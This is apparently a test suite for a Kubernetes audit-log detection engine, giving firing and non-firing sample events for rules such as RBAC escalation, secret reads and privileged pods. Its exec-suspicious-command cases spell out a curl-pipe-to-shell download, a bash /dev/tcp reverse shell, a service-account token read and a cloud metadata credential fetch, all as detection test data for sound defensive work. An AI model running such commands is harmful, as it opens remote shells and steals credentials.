import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import { parseEvent } from '../../../shared/audit/parseEvent.js';
import type { AuditEvent, ParsedEvent } from '../../../shared/audit/types.js';
import { DEFAULT_DETECT_SETTINGS, Detector, type DetectorOptions } from '../../../shared/detect/engine.js';
import { RULES } from '../../../shared/detect/rules.js';
import { FINDING_IDS, type RuleId } from '../../../shared/detect/types.js';
import { BREAK_GLASS_PCI } from '../../../shared/storage/findingAlert.js';
import { corpusDir, makeEvent } from '../../helpers.js';

const AUTH = 'system:authenticated';
const ALLOW_RBAC = { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "view" to User "alice"' };
const ALLOW_EMPTY = { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' };
const FORBID = { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' };

let seq = 0;
function parsed(overrides: Partial<AuditEvent> & Record<string, unknown>): ParsedEvent {
  const e = makeEvent(overrides);
  const p = parseEvent(e, `test ${++seq}`);
  if (!('event' in p)) throw new Error(`test event does not parse: ${p.reason}`);
  return p;
}

const ref = (resource: string, extra: Record<string, string> = {}) => ({ objectRef: { resource, apiVersion: 'v1', ...extra } });
const rbac = (resource: string, name: string, verb: string, requestObject?: unknown) => ({
  verb,
  level: 'RequestResponse' as const,
  objectRef: { resource, name, apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
  ...(requestObject ? { requestObject } : {}),
});
const pod = (spec: Record<string, unknown>) => ({
  verb: 'create',
  level: 'Request' as const,
  objectRef: { resource: 'pods', namespace: 'team-a', apiVersion: 'v1' },
  requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'nginx' }], ...spec } },
});
const exec = (namespace: string, command: string[]) => ({
  verb: 'create',
  ...ref('pods', { subresource: 'exec', name: 'web-1', namespace }),
  requestURI: `/api/v1/namespaces/${namespace}/pods/web-1/exec?${command.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=web&stdin=true&stdout=true&tty=true`,
});
const sa = (ns: string, name: string) => ({ username: `system:serviceaccount:${ns}:${name}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, AUTH] });

/** Per rule: events that must raise it, and events that must not. */
const cases: Record<RuleId, { fires: Partial<AuditEvent>[]; silent: Partial<AuditEvent>[] }> = {
  'system-masters-use': {
    fires: [{ user: { username: 'minikube-user', groups: ['system:masters', AUTH] }, annotations: ALLOW_EMPTY }],
    silent: [{ user: { username: 'alice', groups: [AUTH] } }, { user: { username: 'system:apiserver', groups: ['system:masters', AUTH] }, annotations: ALLOW_EMPTY }],
  },
  'non-rbac-allow': {
    fires: [{ user: { username: 'alice', groups: [AUTH] }, annotations: ALLOW_EMPTY }],
    silent: [
      { user: { username: 'alice', groups: [AUTH] }, annotations: ALLOW_RBAC },
      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, annotations: ALLOW_EMPTY },
      { user: { username: 'root', groups: ['system:masters', AUTH] }, annotations: ALLOW_EMPTY },
    ],
  },
  'break-glass-use': {
    fires: [{ user: { username: 'kubernetes-admin', groups: ['kubeadm:cluster-admins', AUTH] } }, { user: { username: 'kube:admin', groups: [AUTH] } }],
    silent: [{ user: { username: 'alice', groups: ['dev', AUTH] } }],
  },
  'anonymous-allowed': {
    fires: [{ user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: ALLOW_EMPTY, ...ref('namespaces', { name: 'foo' }), verb: 'create' }],
    silent: [
      { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: ALLOW_EMPTY, requestURI: '/healthz', verb: 'get', objectRef: undefined },
      { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: ALLOW_EMPTY, requestURI: '/readyz?verbose', verb: 'get', objectRef: undefined },
      { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: FORBID, ...ref('secrets') },
    ],
  },
  'anonymous-scanning': {
    // The 20th denial from one address within a minute (19 sent first by the test).
    fires: [{ user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: FORBID, sourceIPs: ['203.0.113.9'] }],
    silent: [{ user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, annotations: FORBID, sourceIPs: ['203.0.113.10'] }],
  },
  'default-serviceaccount-use': {
    fires: [{ user: sa('team-a', 'default') }],
    silent: [{ user: sa('team-a', 'web') }, { user: { username: 'default', groups: [AUTH] } }],
  },
  'non-revocable-credential': {
    fires: [{ user: { username: 'dana', groups: [AUTH], extra: { 'authentication.kubernetes.io/credential-id': ['X509SHA256=ab'] } } }],
    silent: [
      { user: { username: 'dana', groups: [AUTH], extra: { 'authentication.kubernetes.io/credential-id': ['JTI=ab'] } } },
      { user: { username: 'system:node:n1', groups: ['system:nodes'], extra: { 'authentication.kubernetes.io/credential-id': ['X509SHA256=cd'] } } },
    ],
  },
  'legacy-sa-token': {
    fires: [{ user: sa('ci', 'deployer'), annotations: { ...ALLOW_RBAC, 'authentication.k8s.io/legacy-token': 'system:serviceaccount:ci:deployer' } }],
    silent: [{ user: sa('ci', 'deployer') }],
  },
  impersonation: {
    fires: [{ user: { username: 'alice', groups: [AUTH] }, impersonatedUser: { username: 'bob', groups: [AUTH] } }],
    silent: [{ user: { username: 'alice', groups: [AUTH] } }],
  },
  'pod-exec-attach-portforward': {
    fires: [
      { stage: 'ResponseStarted', verb: 'create', ...ref('pods', { subresource: 'exec', name: 'web', namespace: 'a' }), responseStatus: { metadata: {}, code: 101 } },
      { verb: 'create', ...ref('pods', { subresource: 'portforward', name: 'web', namespace: 'a' }) },
      { verb: 'patch', ...ref('pods', { subresource: 'ephemeralcontainers', name: 'web', namespace: 'a' }) },
      { verb: 'get', ...ref('nodes', { subresource: 'proxy', name: 'n1' }) },
    ],
    silent: [
      { verb: 'get', ...ref('pods', { subresource: 'log', name: 'web', namespace: 'a' }) },
      { verb: 'create', ...ref('pods', { subresource: 'exec', name: 'web', namespace: 'a' }), annotations: FORBID, responseStatus: { metadata: {}, code: 403 } },
      { stage: 'RequestReceived', verb: 'create', ...ref('pods', { subresource: 'exec', name: 'web', namespace: 'a' }) },
    ],
  },
  'secret-read': {
    fires: [{ verb: 'get', ...ref('secrets', { name: 's', namespace: 'a' }) }, { user: sa('ci', 'deployer'), verb: 'list', ...ref('secrets', { namespace: 'prod' }) }, { user: sa('ci', 'deployer'), verb: 'list', ...ref('secrets') }],
    silent: [{ user: sa('ci', 'deployer'), verb: 'get', ...ref('secrets', { namespace: 'ci', name: 's' }) }, { verb: 'create', ...ref('secrets', { namespace: 'a' }) }, { verb: 'get', ...ref('configmaps', { namespace: 'a' }) }],
  },
  'rbac-escalation': {
    fires: [
      rbac('clusterrolebindings', 'b', 'create', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] }),
      rbac('rolebindings', 'b', 'create', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'Group', name: 'system:unauthenticated' }] }),
      rbac('clusterroles', 'r', 'create', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }] }),
      rbac('clusterroles', 'r', 'update', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate'] }] }),
      rbac('clusterroles', 'system:node-problem-detector', 'patch'),
      rbac('clusterroles', 'system:kube-aggregator', 'delete'),
      // The aggregation controller's account writing anything but an aggregated ClusterRole's rules.
      { ...rbac('clusterrolebindings', 'b', 'create', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] }), user: sa('kube-system', 'clusterrole-aggregation-controller') },
    ],
    silent: [
      rbac('clusterrolebindings', 'b', 'create', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'eve' }] }),
      rbac('clusterroles', 'r', 'create', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] }] }),
      rbac('clusterroles', 'r', 'get'),
      { ...rbac('clusterroles', 'system:kube-aggregator', 'patch'), user: { username: 'system:kube-controller-manager', groups: [AUTH] } },
      // Seen from a real kube-apiserver: its bootstrap-roles reconciliation, and the aggregation
      // controller filling an aggregated role, are the control plane doing its job.
      { ...rbac('clusterrolebindings', 'cluster-admin', 'create', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] }), user: { username: 'system:apiserver', uid: 'u', groups: ['system:authenticated'] } },
      { ...rbac('clusterroles', 'cluster-admin', 'create', { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }), user: { username: 'system:apiserver', groups: ['system:authenticated'] } },
      { ...rbac('clusterroles', 'admin', 'patch', { rules: [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }] }), user: sa('kube-system', 'clusterrole-aggregation-controller') },
    ],
  },
  'token-request': {
    fires: [{ verb: 'create', ...ref('serviceaccounts', { subresource: 'token', name: 'ci', namespace: 'ci' }) }],
    silent: [{ verb: 'create', user: { username: 'system:node:n1', groups: ['system:nodes'] }, ...ref('serviceaccounts', { subresource: 'token', name: 'x', namespace: 'a' }) }, { verb: 'get', ...ref('serviceaccounts', { name: 'ci', namespace: 'ci' }) }],
  },
  'csr-approval': {
    fires: [{ verb: 'update', objectRef: { resource: 'certificatesigningrequests', subresource: 'approval', name: 'csr-1', apiGroup: 'certificates.k8s.io', apiVersion: 'v1' } }],
    silent: [{ verb: 'create', objectRef: { resource: 'certificatesigningrequests', name: 'csr-1', apiGroup: 'certificates.k8s.io', apiVersion: 'v1' } }],
  },
  'admission-webhook-change': {
    fires: [{ verb: 'delete', objectRef: { resource: 'validatingwebhookconfigurations', name: 'gatekeeper', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' } }],
    silent: [{ verb: 'list', objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' } }],
  },
  'privileged-workload': {
    fires: [
      pod({ hostPID: true }),
      pod({ containers: [{ name: 'c', securityContext: { privileged: true } }] }),
      pod({ volumes: [{ name: 'docker', hostPath: { path: '/var/run/docker.sock' } }] }),
      {
        verb: 'create',
        level: 'Request',
        objectRef: { resource: 'deployments', namespace: 'a', apiGroup: 'apps', apiVersion: 'v1' },
        requestObject: { kind: 'Deployment', spec: { template: { spec: { hostNetwork: true, containers: [{ name: 'c' }] } } } },
      },
    ],
    silent: [pod({}), pod({ volumes: [{ name: 'data', hostPath: { path: '/data/app' } }] }), pod({ containers: [{ name: 'c', securityContext: { privileged: false } }] })],
  },
  'forbidden-burst': {
    fires: [{ user: { username: 'mallory', groups: [AUTH] }, annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
    silent: [{ user: { username: 'oscar', groups: [AUTH] }, annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
  },
  'system-namespace-workload': {
    fires: [
      { verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
      { verb: 'create', objectRef: { resource: 'daemonsets', apiGroup: 'apps', apiVersion: 'v1', namespace: 'kube-public' } },
      { user: sa('ci', 'deployer'), verb: 'create', objectRef: { resource: 'cronjobs', apiGroup: 'batch', apiVersion: 'v1', namespace: 'kube-system' } },
    ],
    silent: [
      { user: sa('kube-system', 'daemon-set-controller'), verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
      { verb: 'create', ...ref('pods', { namespace: 'team-a' }) },
      { verb: 'create', ...ref('configmaps', { namespace: 'kube-system' }) },
    ],
  },
  'untrusted-image-registry': {
    fires: [
      { ...pod({ containers: [{ name: 'c', image: 'evil.example.net/miner:1' }] }) },
      // Docker Hub, written short.
      { ...pod({ containers: [{ name: 'c', image: 'registry.acme.io/app:1' }], initContainers: [{ name: 'i', image: 'busybox' }] }) },
    ],
    silent: [
      pod({ containers: [{ name: 'c', image: 'registry.acme.io/app:1' }] }),
      pod({ containers: [{ name: 'c', image: 'ghcr.io/acme/tools@sha256:abc' }] }),
      // A prefix of a path component is not that path.
      { ...pod({ containers: [{ name: 'c', image: 'ghcr.io/acme/tools' }] }), verb: 'get' },
    ],
  },
  'workload-container-patch': {
    fires: [
      { verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { template: { spec: { containers: [{ name: 'sidecar', image: 'x' }] } } } } },
      { verb: 'patch', level: 'Request', objectRef: { resource: 'pods', apiVersion: 'v1', namespace: 'shop', name: 'web-1' }, requestObject: [{ op: 'add', path: '/spec/containers/-', value: { name: 's', image: 'x' } }] },
    ],
    silent: [
      { verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { replicas: 3 } } },
      { user: sa('argocd', 'argocd-application-controller'), verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { template: { spec: { containers: [{ name: 'c', image: 'x' }] } } } } },
    ],
  },
  'exec-suspicious-command': {
    fires: [
      exec('shop', ['sh', '-c', 'curl -s http://203.0.113.5/x.sh | sh']),
      exec('shop', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']),
      exec('shop', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']),
      exec('shop', ['wget', '-qO-', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
    ],
    silent: [exec('shop', ['ls', '-la', '/app']), exec('shop', ['/bin/sh']), { ...exec('shop', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
  },
  'exec-kube-system': {
    fires: [exec('kube-system', ['sh']), { verb: 'create', ...ref('pods', { subresource: 'attach', name: 'etcd-0', namespace: 'kube-system' }) }],
    silent: [exec('shop', ['sh']), { verb: 'get', ...ref('pods', { subresource: 'log', name: 'etcd-0', namespace: 'kube-system' }) }],
  },
  'secret-list-broad': {
    fires: [{ verb: 'list', ...ref('secrets') }, { verb: 'watch', ...ref('secrets', { namespace: 'kube-system' }) }, { user: sa('ci', 'deployer'), verb: 'list', ...ref('secrets', { namespace: 'default' }) }],
    silent: [{ verb: 'list', ...ref('secrets', { namespace: 'team-a' }) }, { user: sa('default', 'app'), verb: 'list', ...ref('secrets', { namespace: 'default' }) }, { user: sa('kube-system', 'namespace-controller'), verb: 'list', ...ref('secrets') }],
  },
  'secret-read-burst': {
    // After nine distinct Secrets read (PRELUDE): a tenth fires; the first again does not.
    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-9' }) }],
    silent: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-0' }) }, { user: { username: 'bob', groups: [AUTH] }, verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-9' }) }],
  },
  'secret-read-generic-client': {
    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }), userAgent: 'curl/8.5.0' }, { user: sa('shop', 'web'), verb: 'list', ...ref('secrets', { namespace: 'shop' }), userAgent: 'python-requests/2.31.0' }],
    silent: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }) }, { verb: 'get', ...ref('configmaps', { namespace: 'a', name: 's' }), userAgent: 'curl/8.5.0' }],
  },
  'permission-enumeration': {
    fires: [
      { user: sa('shop', 'web'), verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } },
      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', objectRef: { resource: 'selfsubjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } },
    ],
    silent: [{ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } }, { user: sa('shop', 'web'), verb: 'create', objectRef: { resource: 'subjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } }],
  },
  'resource-sweep': {
    // After 14 kinds of resources (PRELUDE): a 15th fires; one already touched does not.
    fires: [{ verb: 'list', ...ref('kind-14') }],
    silent: [{ verb: 'list', ...ref('kind-0') }, { user: sa('kube-system', 'generic-garbage-collector'), verb: 'list', ...ref('kind-14'), sourceIPs: ['10.9.9.9'] }],
  },
  'aws-auth-change': {
    fires: [{ verb: 'patch', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }, { verb: 'delete', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }],
    silent: [{ verb: 'get', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }, { verb: 'patch', ...ref('configmaps', { namespace: 'team-a', name: 'aws-auth' }) }],
  },
  'coredns-config-change': {
    fires: [{ verb: 'update', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }],
    silent: [{ verb: 'get', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }, { user: { username: 'system:kube-controller-manager', groups: [AUTH] }, verb: 'update', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }],
  },
  'events-deleted': {
    fires: [{ verb: 'delete', ...ref('events', { namespace: 'shop', name: 'web.17' }) }, { verb: 'deletecollection', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', apiVersion: 'v1', namespace: 'shop' } }],
    silent: [{ verb: 'list', ...ref('events', { namespace: 'shop' }) }, { user: sa('kube-system', 'namespace-controller'), verb: 'deletecollection', ...ref('events', { namespace: 'gone' }) }],
  },
  'exposed-service': {
    fires: [{ verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'LoadBalancer', ports: [{ port: 80 }] } } }],
    silent: [
      { verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'ClusterIP' } } },
      { user: sa('ci', 'deployer'), verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'NodePort' } } },
    ],
  },
  'kube-system-serviceaccount': {
    fires: [{ verb: 'create', level: 'Request', ...ref('serviceaccounts', { namespace: 'kube-system' }), requestObject: { kind: 'ServiceAccount', metadata: { name: 'kube-proxy2' } } }],
    silent: [{ verb: 'create', ...ref('serviceaccounts', { namespace: 'shop', name: 'web' }) }, { user: { username: 'system:kube-controller-manager', groups: [AUTH] }, verb: 'create', ...ref('serviceaccounts', { namespace: 'kube-system', name: 'x' }) }],
  },
  'rbac-write-by-serviceaccount': {
    fires: [{ ...rbac('rolebindings', 'b', 'create'), user: sa('shop', 'web') }],
    silent: [{ ...rbac('clusterroles', 'admin', 'update'), user: sa('kube-system', 'clusterrole-aggregation-controller') }, rbac('rolebindings', 'b', 'create'), { ...rbac('rolebindings', 'b', 'get'), user: sa('shop', 'web') }],
  },
  'csr-creation': {
    fires: [{ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'alice-admin' } }],
    silent: [
      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'csr-1' } },
      { user: { username: 'system:bootstrap:abcdef', groups: ['system:bootstrappers', AUTH] }, verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'csr-2' } },
    ],
  },
  'rbac-change-then-use': {
    // After alice binds herself a role (PRELUDE): her Secret read fires; bob's, and hers six minutes on, do not.
    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }), requestReceivedTimestamp: '2026-07-23T14:50:00.000000Z', stageTimestamp: '2026-07-23T14:50:00.000000Z' }],
    silent: [
      { user: { username: 'bob', groups: [AUTH] }, verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }) },
      { verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }), requestReceivedTimestamp: '2026-07-23T14:53:52.000000Z', stageTimestamp: '2026-07-23T14:53:52.000000Z' },
    ],
  },
  'deny-address': {
    fires: [{ sourceIPs: ['198.51.100.23'] }, { sourceIPs: ['192.0.2.1', '10.0.0.7'] }],
    silent: [{ sourceIPs: ['198.51.101.1'] }],
  },
  'system-identity-public-address': {
    fires: [{ user: sa('shop', 'web'), sourceIPs: ['203.0.113.80'] }, { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, sourceIPs: ['::ffff:203.0.113.81'] }],
    silent: [{ user: sa('shop', 'web'), sourceIPs: ['10.1.2.3'] }, { sourceIPs: ['203.0.113.80'] }, { user: sa('shop', 'web'), sourceIPs: ['198.18.0.1'] }],
  },
};

/** Rules that fire only after a burst: the test sends this many matching events first. */
const WARM_UP: Partial<Record<RuleId, number>> = { 'anonymous-scanning': 19, 'forbidden-burst': 19 };

/** Events sent before each case of a rule that correlates distinct requests. */
const PRELUDE: Partial<Record<RuleId, Partial<AuditEvent>[]>> = {
  'secret-read-burst': Array.from({ length: 9 }, (_, i) => ({ verb: 'get', ...ref('secrets', { namespace: 'a', name: `s-${i}` }) })),
  'resource-sweep': Array.from({ length: 14 }, (_, i) => ({ verb: 'list', ...ref(`kind-${i}`) })),
  'rbac-change-then-use': [
    { ...rbac('rolebindings', 'me', 'create', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'alice' }] }), requestReceivedTimestamp: '2026-07-23T14:48:51.000000Z', stageTimestamp: '2026-07-23T14:48:51.000000Z' },
  ],
};

/** Settings a rule needs to be on, for its cases. */
const SETTINGS: Partial<Record<RuleId, Partial<DetectorOptions>>> = {
  'untrusted-image-registry': { allowedRegistries: ['registry.acme.io', 'ghcr.io/acme/tools'] },
  'deny-address': { denyAddresses: ['198.51.100.0/24', '192.0.2.1'] },
  'system-identity-public-address': { trustedAddresses: ['198.18.0.0/15'] },
};
const detectorFor = (id: RuleId) => new Detector({ ...DEFAULT_DETECT_SETTINGS, rules: {}, ...SETTINGS[id] });

describe('detections', () => {
  it('has a rule, a positive and a negative case for every finding id', () => {
    expect(RULES.map((r) => r.id)).to.have.members([...FINDING_IDS]);
    for (const id of FINDING_IDS) {
      expect(cases[id].fires.length, id).to.be.greaterThan(0);
      expect(cases[id].silent.length, id).to.be.greaterThan(0);
    }
    for (const r of RULES) expect(r.pci.length, r.id).to.be.greaterThan(0);
  });

  for (const id of FINDING_IDS) {
    describe(id, () => {
      cases[id].fires.forEach((overrides, i) => {
        it(`fires on case ${i + 1}`, () => {
          const detector = detectorFor(id);
          for (const before of PRELUDE[id] ?? []) detector.detect(parsed(before), 'c');
          for (let n = 0; n < (WARM_UP[id] ?? 0); n++) detector.detect(parsed(overrides), 'c');
          const rules = detector.detect(parsed(overrides), 'c').map((f) => f.rule);
          expect(rules, JSON.stringify(overrides)).to.include(id);
        });
      });
      cases[id].silent.forEach((overrides, i) => {
        it(`stays silent on case ${i + 1}`, () => {
          const detector = detectorFor(id);
          for (const before of PRELUDE[id] ?? []) detector.detect(parsed(before), 'c');
          // Bursts: one short of the count stays silent.
          for (let n = 0; n < Math.max(0, (WARM_UP[id] ?? 0) - 1); n++) detector.detect(parsed(overrides), 'c');
          const rules = detector.detect(parsed(overrides), 'c').map((f) => f.rule);
          expect(rules, JSON.stringify(overrides)).to.not.include(id);
        });
      });
    });
  }

  it('counts a burst only within its window', () => {
    const detector = new Detector();
    const at = (s: number) => parsed({ user: { username: 'mallory', groups: [AUTH] }, annotations: FORBID, requestReceivedTimestamp: `2026-07-23T14:${String(10 + Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}.000000Z`, stageTimestamp: `2026-07-23T14:${String(10 + Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}.000000Z` });
    // 19 denials, then the 20th 70 s after the first: outside the 60 s window.
    const hits = Array.from({ length: 20 }, (_, i) => detector.detect(at(i === 19 ? 70 : i), 'c')).flat().filter((f) => f.rule === 'forbidden-burst');
    expect(hits).to.have.length(0);
  });

  it('rates impersonating a privileged identity high, and obeys configured severity, exceptions and disabling', () => {
    const priv = parsed({ user: { username: 'alice', groups: [AUTH] }, impersonatedUser: { username: 'root', groups: ['system:masters'] } });
    expect(new Detector().detect(priv, 'c').find((f) => f.rule === 'impersonation')?.severity).to.equal('high');
    const configured = new Detector({
      ...DEFAULT_DETECT_SETTINGS,
      rules: { impersonation: { severity: 'low' }, 'system-masters-use': { enabled: false }, 'secret-read': { exceptUsers: ['backup-*'], exceptNamespaces: ['vault'] } },
    });
    const found = configured.detect(priv, 'c');
    expect(found.find((f) => f.rule === 'impersonation')?.severity).to.equal('low');
    expect(found.map((f) => f.rule)).to.not.include('system-masters-use');
    expect(configured.detect(parsed({ user: { username: 'backup-1', groups: [AUTH] }, verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }) }), 'c').map((f) => f.rule)).to.not.include('secret-read');
    expect(configured.detect(parsed({ verb: 'get', ...ref('secrets', { namespace: 'vault', name: 's' }) }), 'c').map((f) => f.rule)).to.not.include('secret-read');
    expect(configured.detect(parsed({ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }) }), 'c').map((f) => f.rule)).to.include('secret-read');
  });
});

/** ../shared/corpus/audit/falco/EXPECTED.md as a table: each file in a store (and detector) of its own. */
const FALCO: [file: string, must: RuleId | null, mustNot?: RuleId][] = [
  ['anonymous_creates_namespace_foo.json', 'anonymous-allowed'],
  ['attach_cluster_admin_role.json', 'rbac-escalation'],
  ['attach_pod.json', 'pod-exec-attach-portforward'],
  ['exec_pod.json', 'pod-exec-attach-portforward'],
  ['create_cluster_role_pod_exec.json', 'rbac-escalation'],
  ['create_cluster_role_wildcard_resources.json', 'rbac-escalation'],
  ['create_cluster_role_wildcard_verbs.json', 'rbac-escalation'],
  ['delete_cluster_role_kube_aggregator.json', 'rbac-escalation'],
  ['modify_cluster_role_node_problem_detector.json', 'rbac-escalation'],
  ['create_nginx_pod_privileged.json', 'privileged-workload'],
  ['create_nginx_pod_privileged_2nd_container.json', 'privileged-workload'],
  ['create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json', 'privileged-workload'],
  ['create_nginx_pod_hostnetwork.json', 'privileged-workload'],
  ['create_nginx_pod_sensitive_mount.json', 'privileged-workload'],
  ['create_nginx_pod_sensitive_mount_2nd_container.json', 'privileged-workload'],
  ['create_nginx_pod_unprivileged.json', null, 'privileged-workload'],
  ['create_nginx_pod_unsensitive_mount.json', null, 'privileged-workload'],
  ['create_nginx_pod_nohostnetwork.json', null, 'privileged-workload'],
];

describe('detections on the Falco corpus (EXPECTED.md)', function () {
  let dir: string | null = null;
  before(function () {
    dir = corpusDir(this);
  });

  for (const [file, must, mustNot] of FALCO) {
    it(`${file}: ${must ? `raises ${must}` : `raises no ${mustNot}`}`, function () {
      if (!dir) return this.skip();
      const raw: unknown = JSON.parse(readFileSync(join(dir, 'audit', 'falco', file), 'utf8'));
      const p = parseEvent(raw, file);
      if (!('event' in p)) throw new Error(`${file} does not parse: ${p.reason}`);
      const rules = new Detector().detect(p, 'minikube').map((f) => f.rule);
      if (must) expect(rules).to.include(must);
      if (mustNot) expect(rules).to.not.include(mustNot);
    });
  }

  it('fal_01_003.json is not an event: quarantined, so no finding', function () {
    if (!dir) return this.skip();
    const raw: unknown = JSON.parse(readFileSync(join(dir, 'audit', 'falco', 'fal_01_003.json'), 'utf8'));
    expect(parseEvent(raw, 'fal_01_003.json')).to.have.property('reason');
  });
});

describe('the README\'s detection table', () => {
  it('lists every rule with its severity and PCI DSS requirements, as the code has them', () => {
    const rows = new Map(
      readFileSync(join(process.cwd(), 'README.md'), 'utf8')
        .split('\n')
        .filter((l) => /^\| `[a-z-]+`/.test(l))
        .map((l) => l.split(' | ').map((c) => c.replace(/^\| /, '')))
        .filter((cells) => cells.length === 4)
        // The severity first, before any note on when it is raised: `medium (high for …)`.
        .map(([id, severity, pci]) => [id!.split(' / ')[0]!.replace(/`/g, ''), { severity: severity!.replace(/ \(.*\)$/, ''), pci }]),
    );
    for (const r of RULES.filter((x) => x.id !== 'break-glass-use')) {
      expect(rows.get(r.id), r.id).to.deep.equal({ severity: r.severity, pci: r.pci.join(', ') });
    }
    expect(rows.get('unattributed-break-glass')).to.deep.equal({
      severity: 'critical / medium',
      pci: `${BREAK_GLASS_PCI['unattributed-break-glass'].join(', ')} / ${BREAK_GLASS_PCI['attributed-break-glass'].join(', ')}`,
    });
  });
});
